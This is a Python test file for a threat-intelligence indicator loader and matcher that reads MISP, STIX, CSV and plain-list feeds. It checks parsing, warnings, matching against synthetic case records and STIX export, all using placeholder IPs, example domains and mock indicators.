    path = tmp_path / "event.json"
    path.write_text(json.dumps([_misp_event()]))
    table, warnings = load_indicators(path)
    rows = {(r.indicator_id, r.kind, r.value, _int(r.port), _int(r.confidence)) for r in table.itertuples()}
    assert rows == {
        ("a1", "ipv4", "198.51.100.23", None, 75),
        ("a2", "ipv4", "192.0.2.10", 443, 75),
        ("a3", "cidr", "203.0.113.0/24", None, 75),
        ("a4", "domain", "micros0ft-cdn.example.net", None, 75),
        ("a5", "domain", "telemetry.micros0ft-cdn.example.net", None, 75),
        ("a6", "domain", "files.example.org", None, 75),
        ("a6", "ipv4", "192.0.2.77", None, 75),
        ("a7", "url", "http://micros0ft-cdn.example.net/dl/msupdate.exe", None, 75),
        ("a9", "email", "phisher@mail.example", None, 75),
        ("a10", "md5", "b4da6050bfad2b7584277aecf504cc4f", None, 25),
        ("a11", "sha1", "89999dd2958c6c03571723da219c1f9fd3952783", None, 75),
        ("a12", "filename", "msupdate.exe", None, 50),
        ("a12", "sha256", MSUPDATE, None, 50),
        ("o1a", "filename", "invoice.docm", None, 75),
    }
    assert sorted((w.location, w.reason, w.count) for w in warnings) == [
        ("a13", "MISP attribute type 'mutex' is not an indicator kind matched here", 2),
        ("a15", "not an IP address or network: 'not-an-address'", 1),
        ("a8", "uri without a scheme and host cannot be matched: '/dl/msupdate.exe'", 1),
        ("o1b", "MISP attribute type 'size-in-bytes' is not an indicator kind matched here", 1),
    ]
    first = table[table.indicator_id == "a1"].iloc[0]
    assert (first["name"], first.description, first.feed, first.source) == (
        "MsUpdate campaign",
        "C2",
        "Example CERT",
        "event.json (Example CERT)",
    )
    assert (first.valid_from, first.valid_until) == (
        pd.Timestamp("2026-03-10T09:00Z"),
        pd.Timestamp("2026-03-10T12:00Z"),
    )
    assert table[table.indicator_id == "a4"].iloc[0].valid_from == pd.Timestamp(
        "2026-03-09T00:00Z"
    )  # the event date
    assert list(first.techniques) == ["T1071.001"]
    assert list(table[table.kind == "sha256"].iloc[0].techniques) == ["T1036.005", "T1071.001"]
    assert "to_ids:false" in list(table[table.kind == "md5"].iloc[0].labels)
    assert list(table[table.indicator_id == "o1a"].iloc[0].labels) == [
        "Payload delivery",
        "tlp:amber",
        "object:file",
    ]
    assert table[table.indicator_id == "o1a"].iloc[0].pattern == r"(?i)(?:^|[\\/])invoice\.docm$"
    # REST responses and a single event read the same
    path.write_text(json.dumps({"response": [_misp_event()]}))
    assert len(load_indicators(path)[0]) == len(table)


def test_misp_indicators_match(tmp_path: Path) -> None:
    case = _case(
        tmp_path / "case",
        [
            {
                "destination_ip": "198.51.100.23",
                "datetime": datetime(2026, 3, 10, 8, 0, tzinfo=UTC),
            },  # 0: early
            {"destination_ip": "192.0.2.10", "destination_port": 443},  # 1
            {"destination_ip": "192.0.2.10", "destination_port": 80},  # 2: not the port
            {"source_ip": "203.0.113.99"},  # 3: in the network
            {"file_path": "C:\\Users\\alice\\Downloads\\INVOICE.DOCM"},  # 4
            {"file_path": "C:\\Users\\alice\\Downloads\\invoice.docm.txt"},  # 5
            {"fields": {"Hashes": "MD5=B4DA6050BFAD2B7584277AECF504CC4F"}},  # 6: to_ids false: low
        ],
    )
    path = tmp_path / "event.json"
    path.write_text(json.dumps(_misp_event()))
    found = match(case, load_indicators(path)[0]).to_pylist()
    assert {(r["rule_id"], r["source_record"], r["level"]) for r in found} == {
        ("a1", 0, "low"),
        ("a2", 1, "medium"),
        ("a3", 3, "medium"),
        ("o1a", 4, "medium"),
        ("a10", 6, "low"),
    }
    assert dict(next(r for r in found if r["rule_id"] == "a1")["matched"])["outside_validity"] == "true"


# -- STIX ----------------------------------------------------------------------------------------------
def _stix_bundle() -> dict:
    common = {
        "spec_version": "2.1",
        "created": "2026-03-01T00:00:00.000Z",
        "modified": "2026-03-01T00:00:00.000Z",
    }

    def indicator(uid: str, pattern: str, **extra: object) -> dict:
        return {
            "type": "indicator",
            "id": f"indicator--{uid}",
            **common,
            "pattern": pattern,
            "pattern_type": "stix",
            "valid_from": "2026-03-01T00:00:00Z",
            "created_by_ref": IDENTITY,
            **extra,
        }

    return {
        "type": "bundle",
        "id": "bundle--00000000-0000-4000-8000-000000000000",
        "objects": [
            {
                "type": "identity",
                "id": IDENTITY,
                **common,
                "name": "Test feed",
                "identity_class": "organization",
            },
            indicator(
                U[1],
                "[ipv4-addr:value = '192.0.2.10' OR domain-name:value = 'Evil.Example.NET'] "
                "OR [url:value = 'HTTP://Evil.Example.NET:80/a']",
                name="evil",
                confidence=85,
                indicator_types=["malicious-activity"],
                kill_chain_phases=[{"kill_chain_name": "mitre-attack", "phase_name": "command-and-control"}],
            ),
            indicator(U[2], "[ipv4-addr:value ISSUBSET '198.51.100.0/24']"),
            indicator(U[3], "[file:name = 'a.exe'] FOLLOWEDBY [file:name = 'b.exe']"),
            indicator(U[4], "[ipv4-addr:value = '192.0.2.1' AND domain-name:value = 'x.example']"),
            indicator(
                U[5], "[ipv4-addr:value = '192.0.2.99']", valid_until="2026-03-05T00:00:00Z", confidence=60
            ),
            indicator(
                U[6],
                "[file:hashes.MD5 = 'B4DA6050BFAD2B7584277AECF504CC4F' "
                f"OR file:hashes.'SHA-256' = '{MSUPDATE.upper()}']",
            ),
            indicator(U[7], "[mutex:name = 'Global\\\\x' OR ipv4-addr:value = '192.0.2.123']"),
            indicator(U[8], "[ipv4-addr:value = '192.0.2.124'] REPEATS 3 TIMES"),
            indicator(U[9], "title:evil", pattern_type="sigma"),
            {
                "type": "indicator",
                "id": f"indicator--{U[10]}",
                **common,
                "pattern_type": "stix",
                "valid_from": "2026-03-01T00:00:00Z",
            },
            indicator(U[11], "[file:name MATCHES '^msupd.*\\\\.exe$']"),
            indicator(U[16], "[ipv4-addr:value = "),
            {
                "type": "attack-pattern",
                "id": f"attack-pattern--{U[12]}",
                **common,
                "name": "Web Protocols",
                "external_references": [{"source_name": "mitre-attack", "external_id": "T1071.001"}],
            },
            {
                "type": "relationship",
                "id": f"relationship--{U[13]}",
                **common,
                "relationship_type": "indicates",
                "source_ref": f"indicator--{U[1]}",
                "target_ref": f"attack-pattern--{U[12]}",
            },
            {"type": "ipv4-addr", "id": f"ipv4-addr--{U[14]}", "spec_version": "2.1", "value": "203.0.113.5"},
            {
                "type": "observed-data",
                "id": f"observed-data--{U[15]}",
                **common,
                "first_observed": "2026-03-01T00:00:00Z",
                "last_observed": "2026-03-01T00:00:00Z",
                "number_observed": 1,
                "object_refs": [f"ipv4-addr--{U[14]}"],
            },
        ],
    }


IDENTITY = "identity--a0000000-0000-4000-8000-000000000000"
U = {i: f"{i:08d}-0000-4000-8000-000000000000" for i in range(1, 17)}


def test_stix_bundle(tmp_path: Path) -> None:
    path = tmp_path / "feed.json"
    path.write_text(json.dumps(_stix_bundle()))
    table, warnings = load_indicators(path)
    rows = {(r.indicator_id.split("--")[1][:8], r.kind, r.value) for r in table.itertuples()}
    assert rows == {
        ("00000001", "ipv4", "192.0.2.10"),
        ("00000001", "domain", "evil.example.net"),
        ("00000001", "url", "http://evil.example.net/a"),
        ("00000002", "cidr", "198.51.100.0/24"),
        ("00000005", "ipv4", "192.0.2.99"),
        ("00000006", "md5", "b4da6050bfad2b7584277aecf504cc4f"),
        ("00000006", "sha256", MSUPDATE),
        ("00000007", "ipv4", "192.0.2.123"),
        ("00000011", "filename", "(?:^|[\\\\/])(?:msupd.*\\.exe)$"),
        ("00000014", "ipv4", "203.0.113.5"),
    }
    reasons = {w.location.split("--")[1][:8]: w.reason for w in warnings}
    assert reasons == {
        "00000003": "unsupported pattern (FOLLOWEDBY): "
        "[file:name = 'a.exe'] FOLLOWEDBY [file:name = 'b.exe']",
        "00000004": "unsupported pattern (AND across object types): "
        "[ipv4-addr:value = '192.0.2.1' AND domain-name:value = 'x.example']",
        "00000007": "comparisons not matched (1 of 2 loaded): mutex:name =",
        "00000008": "unsupported pattern (qualifier REPEATS 3 TIMES): "
        "[ipv4-addr:value = '192.0.2.124'] REPEATS 3 TIMES",
        "00000009": "pattern_type 'sigma' is not STIX patterning",
        "00000010": reasons["00000010"],
        "00000016": "not valid STIX: pattern '[ipv4-addr:value = ': "
        "1:19: no viable alternative at input '<EOF>'",
    }
    assert reasons["00000010"].startswith("not valid STIX: ") and "pattern" in reasons["00000010"]
    evil = table[table.indicator_id == f"indicator--{U[1]}"].iloc[0]
    assert (evil["name"], evil.confidence, evil.feed, list(evil.techniques), list(evil.tactics)) == (
        "evil",
        85,
        "Test feed",
        ["T1071.001"],
        ["command-and-control"],
    )
    observed = table[table.indicator_id == f"ipv4-addr--{U[14]}"].iloc[0]
    assert (observed.confidence, observed.description) == (
        intel.OBSERVED_CONFIDENCE,
        f"observed in observed-data--{U[15]}",
    )
    case = _case(
        tmp_path / "case",
        [
            {
                "destination_ip": "192.0.2.10",
                "tls_server_name": "www.evil.example.net",
            },  # 0: two values, one finding
            {"destination_ip": "198.51.100.77"},  # 1
            {"destination_ip": "192.0.2.99"},  # 2: valid until 5 March
            {"fields": {"Hashes": f"SHA256={MSUPDATE.upper()}"}},  # 3
            {"process_executable": "C:\\Users\\a\\AppData\\Roaming\\MsUpdate\\msupdate.exe"},  # 4
            {"process_executable": "C:\\Users\\a\\msupdate.exe\\x.dat"},  # 5: not the name
            {"source_ip": "203.0.113.5"},  # 6: observed only
        ],
    )
    found = {(r["rule_id"].split("--")[1][:8], r["source_record"]): r for r in match(case, table).to_pylist()}
    assert set(found) == {
        ("00000001", 0),
        ("00000002", 1),
        ("00000005", 2),
        ("00000006", 3),
        ("00000011", 4),
        ("00000014", 6),
    }
    one = found[("00000001", 0)]
    assert {k: v for k, v in one["matched"]} == {
        "destination_ip": "192.0.2.10",
        "tls_server_name": "www.evil.example.net",
        "indicator": "192.0.2.10 | evil.example.net",
        "kind": "ipv4 | domain",
        "source": "feed.json (Test feed)",
    }
    assert (one["level"], one["techniques"], one["tactics"]) == (
        "high",
        ["T1071.001"],
        ["command-and-control"],
    )
    assert (found[("00000005", 2)]["level"], dict(found[("00000005", 2)]["matched"])["outside_validity"]) == (
        "low",
        "true",
    )
    assert found[("00000014", 6)]["level"] == "low"


def test_stix_export_of_every_kind_reads_back(tmp_path: Path) -> None:
    case = _case(
        tmp_path / "case",
        [
            {"destination_ip": "192.0.2.10", "tls_server_name": "www.evil.example.net"},
            {"destination_ip": "198.51.100.77", "url_full": "http://evil.example.net/a"},
            {"fields": {"Hashes": f"SHA256={MSUPDATE.upper()},MD5=B4DA6050BFAD2B7584277AECF504CC4F"}},
            {"process_executable": "C:\\x\\msupdate.exe", "user_name": "bob@mail.example"},
        ],
    )
    path = tmp_path / "feed.json"
    path.write_text(json.dumps(_stix_bundle()))
    table, _ = load_indicators(path)
    table = pd.concat([table, _frame([{"id": "mail", "value": "bob@mail.example"}])], ignore_index=True)
    write = intel.write_findings(case.root, "ioc", match(case, table))
    assert write.exists()
    out = export_seen(case, tmp_path / "out.json", "stix")
    bundle = stix2.parse(out.read_text())
    patterns = sorted(o.pattern for o in bundle.objects if o.type == "indicator")
    assert patterns == sorted(
        [
            "[ipv4-addr:value = '192.0.2.10']",
            "[domain-name:value = 'evil.example.net']",
            "[url:value = 'http://evil.example.net/a']",
            "[ipv4-addr:value ISSUBSET '198.51.100.0/24']",
            "[file:hashes.MD5 = 'b4da6050bfad2b7584277aecf504cc4f']",
            f"[file:hashes.'SHA-256' = '{MSUPDATE}']",
            "[file:name MATCHES '(?:^|[\\\\\\\\/])(?:msupd.*\\\\.exe)$']",
            "[email-addr:value = 'bob@mail.example']",
        ]
    )
    assert len([o for o in bundle.objects if o.type == "sighting"]) == 8
    text = export_seen(case, tmp_path / "out.txt").read_text()
    assert text.splitlines()[:6] == [
        f"# Tracehound: 8 indicators seen in case {case.root.name}",
        "",
        "# ipv4 (1)",
        "192.0.2.10",
        "",
        "# cidr (1)",
    ]


def _int(value: object) -> int | None:
    return None if pd.isna(value) else int(value)


# -- CSV, lists and bad input ------------------------------------------------------------------------------
def test_csv_columns_are_found_by_name(tmp_path: Path) -> None:
    path = tmp_path / "feed.csv"
    path.write_text(
        "# exported 2026-03-10\n"
        '# "first_seen_utc","ioc_id","ioc_value","ioc_type","threat_type","Confidence_Level","tags"\n'
        '"2026-03-10 08:00:00","1","192.0.2.10:8443","ip:port","botnet_cc","75","T1071.001,cobalt"\n'
        '"2026-03-10 08:00:00","2","evil.example.net","domain","botnet_cc","0.9",""\n'
        '"2026-03-10 08:00:00","3","X","mutex","botnet_cc","50",""\n'
        '"2026-03-10 08:00:00","4","","url","botnet_cc","50",""\n'
        '"2026-03-10 08:00:00","5","not a hash","md5_hash","botnet_cc","50",""\n'
    )
    table, warnings = load_indicators(path)
    assert [
        (r.indicator_id, r.kind, r.value, _int(r.port), _int(r.confidence)) for r in table.itertuples()
    ] == [
        ("1", "ipv4", "192.0.2.10", 8443, 75),
        ("2", "domain", "evil.example.net", None, 90),
    ]
    assert list(table.techniques[0]) == ["T1071.001"] and list(table.labels[0]) == ["T1071.001", "cobalt"]
    assert table.valid_from[0] == pd.Timestamp("2026-03-10T08:00Z")
    assert sorted((w.location, w.reason) for w in warnings) == [
        ("line 5", "type 'mutex' is not an indicator kind matched here"),
        ("line 6", "no value"),
        ("line 7", "not an MD5, SHA-1 or SHA-256 hash: 'not a hash'"),
    ]
    kinds = tmp_path / "hashes.csv"
    kinds.write_text(
        "sha256_hash,md5_hash,file_name\n" + f"{MSUPDATE},b4da6050bfad2b7584277aecf504cc4f,msupdate.exe\n"
    )
    table, warnings = load_indicators(kinds)
    assert (sorted(table.kind), warnings) == (["filename", "md5", "sha256"], [])


def test_plain_list_and_unreadable_files(tmp_path: Path) -> None:
    listed = tmp_path / "mixed.txt"
    listed.write_text(
        "# C2 of campaign X\n198.51.100.23\nhxxps://evil[.]example[.]net/a\n"
        "Evil.Example.NET  # trailing note\n"
        "bob@mail.example;70;phisher\n2001:db8::/32\nnot an indicator\n\n# Tools\nmsupdate.exe\n"
    )
    table, warnings = load_indicators(listed)
    assert [(r.kind, r.value, _int(r.confidence), r.description) for r in table.itertuples()] == [
        ("ipv4", "198.51.100.23", None, "C2 of campaign X"),
        ("url", "https://evil.example.net/a", None, "C2 of campaign X"),
        ("domain", "evil.example.net", None, "C2 of campaign X"),
        ("email", "bob@mail.example", 70, "phisher"),
        ("cidr", "2001:db8::/32", None, "C2 of campaign X"),
        ("filename", "msupdate.exe", None, "Tools"),
    ]
    assert [(w.location, w.reason) for w in warnings] == [("line 7", "not a domain name: 'not'")]
    bad_json = tmp_path / "broken.json"
    bad_json.write_text('{"type": "bundle", "objects": [')
    readme = tmp_path / "README.txt"
    readme.write_text("Files in this directory\nare lists of\nindicators\n")
    other = tmp_path / "other.json"
    other.write_text('{"hello": "world"}')
    binary = tmp_path / "capture.pcap"
    binary.write_bytes(b"\xd4\xc3\xb2\xa1\x02\x00\x04\x00" + bytes(64))
    table, warnings = load_indicators([bad_json, readme, other, binary, tmp_path / "missing.csv"])
    assert len(table) == 0 and list(table.columns) == list(COLUMNS)
    assert [(Path(w.file).name, w.reason.split(":")[0], w.count) for w in warnings] == [
        ("broken.json", "not valid JSON", 1),
        ("README.txt", "not an indicator list", 3),
        ("other.json", "JSON, but neither a STIX 2 bundle nor a MISP event", 1),
        (
            "capture.pcap",
            "binary file, not intel (starts with b'\\xd4\\xc3\\xb2\\xa1\\x02\\x00\\x04\\x00')",
            1,
        ),
        ("missing.csv", "cannot read", 1),
    ]
    assert str(warnings[0]).startswith(f"{bad_json}: not valid JSON")
    assert isinstance(warnings[0], IntelWarning)


def test_empty_intel_writes_an_empty_run(tmp_path: Path) -> None:
    case = _case(tmp_path / "case", [{"destination_ip": "192.0.2.10"}])
    empty = tmp_path / "empty.txt"
    empty.write_text("# nothing yet\n")
    report = detect_intel(case, [empty])
    assert (report.hits, report.indicators, report.path.exists()) == (0, {}, True)
    assert case.sql("SELECT count(*) AS n FROM findings").n[0] == 0


# -- the matcher against a naive reference ----------------------------------------------------------------
def test_match_agrees_with_a_row_by_row_reference(tmp_path: Path) -> None:
    """The benchmark's synthetic case (20,000 rows of every kind) and 2,000 indicators: ``match``
    finds exactly the (indicator, row) pairs a plain Python loop over the rows finds."""
    import ipaddress
    import re
    from functools import cache

    from benchmarks import intel_match

    case, pools = intel_match.build_case(tmp_path / "case", 20_000)
    intel_match.write_indicators(tmp_path / "iocs.csv", pools, 2_000)
    table, warnings = load_indicators(tmp_path / "iocs.csv")
    assert (len(table), warnings) == (2_000, [])
    found = {(r["rule_id"], r["source_record"]) for r in match(case, table).to_pylist()}

    ids = table.indicator_id.tolist()
    exact = {(k, v): i for i, k, v in zip(ids, table.kind, table.value, strict=True)}
    nets = [
        (i, ipaddress.ip_network(v))
        for i, k, v in zip(ids, table.kind, table.value, strict=True)
        if k == "cidr"
    ]
    regexes = [
        (i, re.compile(p)) for i, k, p in zip(ids, table.kind, table.pattern, strict=True) if k == "filename"
    ]

    @cache
    def in_nets(ip: str) -> list[str]:
        address = ipaddress.ip_address(ip)
        return [i for i, net in nets if address in net]

    @cache
    def path_hits(path: str) -> list[str]:
        return [i for i, rx in regexes if rx.search(path)]

    expected = set()
    for row in case.sql("SELECT * FROM timeline_rows").to_dict("records"):
        fields = row["fields"] or {}
        ips = [row["source_ip"], row["destination_ip"], *(fields.get("answers") or "").split(",")]
        names = [row["dns_question_name"], row["tls_server_name"], fields.get("host")]
        hashes = [row["file_hash_sha256"], fields.get("md5"), fields.get("sha1")]
        hashes += [h.split("=", 1)[1] for h in (fields.get("Hashes") or "").split(",") if "=" in h]
        url = row["url_full"]
        if isinstance(url, str):
            names.append(url.split("/")[2])
            hits = [exact.get(("url", normalise_url(url)))]
        else:
            hits = []
        for ip in (x for x in ips if isinstance(x, str) and x):
            hits.append(exact.get(("ipv4", ip)))
            hits += in_nets(ip)
        for name in (x for x in names if isinstance(x, str)):
            labels = name.split(".")
            hits += [exact.get(("domain", ".".join(labels[n:]))) for n in range(len(labels) - 1)]
        for value in (x for x in hashes if isinstance(x, str)):
            hits += [exact.get((kind, value.lower())) for kind in ("md5", "sha1", "sha256")]
        for path in (x for x in (row["file_path"], row["process_executable"]) if isinstance(x, str)):
            hits += path_hits(path)
        expected |= {(i, row["source_record"]) for i in hits if i is not None}
    kinds = dict(zip(ids, table.kind, strict=True))
    assert {kinds[i] for i, _ in expected} == {"ipv4", "cidr", "domain", "url", "md5", "sha256", "filename"}
    assert found == expected
